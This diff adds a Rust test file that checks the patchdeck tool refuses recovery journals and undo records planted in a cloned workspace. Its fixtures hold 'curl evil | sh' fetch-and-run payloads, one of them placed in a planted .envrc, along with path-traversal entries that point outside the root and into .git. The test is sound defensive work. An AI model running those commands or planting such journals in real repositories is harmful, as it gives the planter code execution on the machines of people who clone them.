@@ -1,0 +1,242 @@
+//! Records that came with the workspace: a `.patchdeck/` folder in a cloned repository, an
+//! archive or another user's tree. Commands that only read never act on it; a journal or an
+//! undo record is acted on only when sealed with this user's key, and even a sealed one only
+//! when every path in it has the shape patchdeck writes.
+
+use crate::common::terminal::Terminal;
+use crate::common::{patchdeck_env, sha, stderr, tree, workspace_with};
+use patchdeck::commit::seal::{Key, Purpose};
+use std::fs;
+use std::path::Path;
+use tempfile::TempDir;
+
+/// A state folder of this test's own (`XDG_STATE_HOME`), so that the key is one the test can
+/// seal with, as the user's own patchdeck would.
+struct User {
+    state: TempDir,
+}
+
+impl User {
+    fn new() -> User {
+        User {
+            state: tempfile::tempdir().unwrap(),
+        }
+    }
+
+    fn key(&self) -> Key {
+        Key::load_or_create(&self.state.path().join("patchdeck/seal.key")).unwrap()
+    }
+
+    fn env(&self) -> [(&str, &str); 1] {
+        [("XDG_STATE_HOME", self.state.path().to_str().unwrap())]
+    }
+
+    fn run(&self, ws: &Path, args: &[&str]) -> std::process::Output {
+        let mut all = args.to_vec();
+        all.extend(["--root", ws.to_str().unwrap()]);
+        patchdeck_env(&all, &self.env())
+    }
+}
+
+/// The journal a malicious repository would carry: it "rolls back" `src/app.py` to bytes of
+/// its choosing and re-creates `.envrc` (which direnv runs) holding a shell command.
+fn plant_rollback(ws: &Path, seal: Option<&Key>) {
+    let id = format!("{:032x}-4242", 7);
+    let app = fs::read(ws.join("src/app.py")).unwrap();
+    let tx = ws.join(format!(".patchdeck/tx-{id}"));
+    fs::create_dir_all(&tx).unwrap();
+    let planted_app = b"import os; os.system('curl evil | sh')\n";
+    let planted_envrc = b"curl evil | sh\n";
+    fs::write(tx.join("0"), planted_app).unwrap();
+    fs::write(tx.join("1"), planted_envrc).unwrap();
+    let journal = serde_json::json!({
+        "version": 1, "id": id, "pid": 4242, "state": "prepared",
+        "backupDir": format!(".patchdeck/tx-{id}"),
+        "entries": [
+            {"path": "src/app.py", "kind": "modify",
+             "staged": format!("src/.app.py.pd-{id}-0.tmp"),
+             "backup": format!(".patchdeck/tx-{id}/0"),
+             "preSha256": sha(planted_app), "postSha256": sha(&app), "createdDirs": []},
+            {"path": ".envrc", "kind": "delete", "staged": null,
+             "backup": format!(".patchdeck/tx-{id}/1"),
+             "preSha256": sha(planted_envrc), "postSha256": null, "createdDirs": []},
+        ]
+    });
+    let bytes = serde_json::to_vec_pretty(&journal).unwrap();
+    let bytes = match seal {
+        Some(key) => key.seal(Purpose::Journal, &bytes),
+        None => bytes,
+    };
+    fs::write(ws.join(".patchdeck/journal"), bytes).unwrap();
+}
+
+fn batch(dir: &TempDir) -> String {
+    let path = dir.path().join("batch.diff");
+    fs::write(
+        &path,
+        "--- a/src/app.py\n+++ b/src/app.py\n@@ -1 +1 @@\n-print('hi')\n+print('hello')\n",
+    )
+    .unwrap();
+    path.display().to_string()
+}
+
+#[test]
+fn a_journal_that_came_with_a_clone_is_never_acted_on() {
+    let user = User::new();
+    let stranger = User::new();
+    let outside = tempfile::tempdir().unwrap();
+    let batch = batch(&outside);
+    // Unsealed (a hand-made journal), and sealed by someone else's patchdeck.
+    for seal in [None, Some(stranger.key())] {
+        let ws = workspace_with(&[("src/app.py", b"print('hi')\n")]);
+        plant_rollback(ws.path(), seal.as_ref());
+        let before = tree(ws.path());
+        for args in [
+            vec!["check", &batch],
+            vec!["check", "--json", &batch],
+            vec!["show", &batch, "src/app.py"],
+            vec!["diff", &batch],
+            vec!["apply", "--read-only", &batch],
+            vec!["apply", "--dry-run", &batch],
+        ] {
+            let out = user.run(ws.path(), &args);
+            assert!(
+                stderr(&out).contains("an interrupted commit is waiting")
+                    && stderr(&out).contains("patchdeck recover"),
+                "{args:?}: {}",
+                stderr(&out)
+            );
+            assert!(tree(ws.path()) == before, "{args:?} wrote something");
+        }
+        for args in [vec!["recover"], vec!["apply", &batch], vec!["undo"]] {
+            let out = user.run(ws.path(), &args);
+            assert_eq!(out.status.code(), Some(3), "{args:?}: {}", stderr(&out));
+            assert!(
+                stderr(&out).contains("was not written by patchdeck for this user on this machine")
+                    && stderr(&out).contains("nothing was done with it"),
+                "{args:?}: {}",
+                stderr(&out)
+            );
+            assert!(tree(ws.path()) == before, "{args:?} wrote something");
+        }
+        assert!(!ws.path().join(".envrc").exists());
+    }
+}
+
+#[test]
+fn the_reviewer_read_only_leaves_a_planted_journal_and_says_so() {
+    let user = User::new();
+    let outside = tempfile::tempdir().unwrap();
+    let ws = workspace_with(&[("src/app.py", b"print('hi')\n")]);
+    plant_rollback(ws.path(), None);
+    let before = tree(ws.path());
+    let batch = batch(&outside);
+    let mut term = Terminal::start(
+        outside.path(),
+        &[
+            "review",
+            "--read-only",
+            "--root",
+            ws.path().to_str().unwrap(),
+            &batch,
+        ],
+        &[
+            ("NO_COLOR", "1"),
+            ("XDG_STATE_HOME", user.state.path().to_str().unwrap()),
+        ],
+    );
+    term.wait_for("an interrupted commit is waiting");
+    term.keys(&["q"]);
+    assert_eq!(term.wait_exit().0, 0);
+    assert!(tree(ws.path()) == before);
+}
+
+/// Sealed with the user's own key, a journal is still held to the shapes patchdeck writes:
+/// one that leads recovery out of the root or into `.git` is refused.
+#[test]
+fn a_sealed_journal_that_leads_out_of_the_root_is_refused_and_nothing_is_touched() {
+    let user = User::new();
+    let key = user.key();
+    let victim = tempfile::tempdir().unwrap();
+    fs::create_dir_all(victim.path().join("tree")).unwrap();
+    fs::write(victim.path().join("keep.txt"), "keep\n").unwrap();
+    fs::write(victim.path().join("tree/also.txt"), "also\n").unwrap();
+    let id = format!("{:032x}-1", 1);
+    let sha = "a".repeat(64);
+    let entries = [
+        // A staged file outside the root.
+        serde_json::json!({"path": "notes.txt", "kind": "modify",
+            "staged": victim.path().join("keep.txt"), "backup": format!(".patchdeck/tx-{id}/0"),
+            "preSha256": sha, "postSha256": sha, "createdDirs": []}),
+        // A file to restore that climbs out.
+        serde_json::json!({"path": "../keep.txt", "kind": "delete", "staged": null,
+            "backup": format!(".patchdeck/tx-{id}/0"), "preSha256": sha, "postSha256": null,
+            "createdDirs": []}),
+        // A file in .git.
+        serde_json::json!({"path": ".git/config", "kind": "create",
+            "staged": format!(".git/..config.pd-{id}-0.tmp"), "backup": null,
+            "preSha256": null, "postSha256": sha, "createdDirs": [".git"]}),
+    ];
+    for (n, entry) in entries.iter().enumerate() {
+        let ws = workspace_with(&[("notes.txt", b"mine\n")]);
+        let backup_dirs = [
+            format!(".patchdeck/tx-{id}"),
+            victim.path().join("tree").display().to_string(),
+        ];
+        for backup_dir in &backup_dirs {
+            let journal = serde_json::json!({"version": 1, "id": id, "pid": 1,
+                "state": "prepared", "backupDir": backup_dir, "entries": [entry]});
+            fs::create_dir_all(ws.path().join(".patchdeck")).unwrap();
+            fs::write(
+                ws.path().join(".patchdeck/journal"),
+                key.seal(Purpose::Journal, journal.to_string().as_bytes()),
+            )
+            .unwrap();
+            let out = user.run(ws.path(), &["recover"]);
+            assert_eq!(out.status.code(), Some(3), "entry {n}: {}", stderr(&out));
+            assert!(
+                stderr(&out).contains("was not written by this version of patchdeck"),
+                "entry {n}: {}",
+                stderr(&out)
+            );
+            assert_eq!(fs::read(victim.path().join("keep.txt")).unwrap(), b"keep\n");
+            assert!(victim.path().join("tree/also.txt").exists());
+            assert_eq!(fs::read(ws.path().join("notes.txt")).unwrap(), b"mine\n");
+            assert!(
+                ws.path().join(".patchdeck/journal").exists(),
+                "kept for a person"
+            );
+        }
+    }
+}
+
+/// An undo record that came with the workspace would make `undo` write its "originals".
+#[test]
+fn an_undo_record_that_came_with_a_clone_is_never_restored() {
+    let user = User::new();
+    let ws = workspace_with(&[("src/app.py", b"print('hi')\n")]);
+    let id = format!("{:032x}-4242", 9);
+    let record = ws.path().join(format!(".patchdeck/history/{id}"));
+    fs::create_dir_all(&record).unwrap();
+    let planted = b"import os; os.system('curl evil | sh')\n";
+    fs::write(record.join("0"), planted).unwrap();
+    let journal = serde_json::json!({
+        "version": 1, "id": id, "pid": 4242, "state": "committed", "label": "harmless",
+        "backupDir": format!(".patchdeck/history/{id}"),
+        "entries": [{"path": "src/app.py", "kind": "modify",
+            "staged": format!("src/.app.py.pd-{id}-0.tmp"),
+            "backup": format!(".patchdeck/history/{id}/0"),
+            "preSha256": sha(planted), "postSha256": sha(b"print('hi')\n"), "createdDirs": []}]
+    });
+    fs::write(record.join("journal.json"), journal.to_string()).unwrap();
+    let before = tree(ws.path());
+    let out = user.run(ws.path(), &["undo"]);
+    assert_eq!(out.status.code(), Some(3), "{}", stderr(&out));
+    assert!(
+        stderr(&out).contains("the undo record")
+            && stderr(&out).contains("was not written by patchdeck for this user"),
+        "{}",
+        stderr(&out)
+    );
+    assert!(tree(ws.path()) == before);
+}
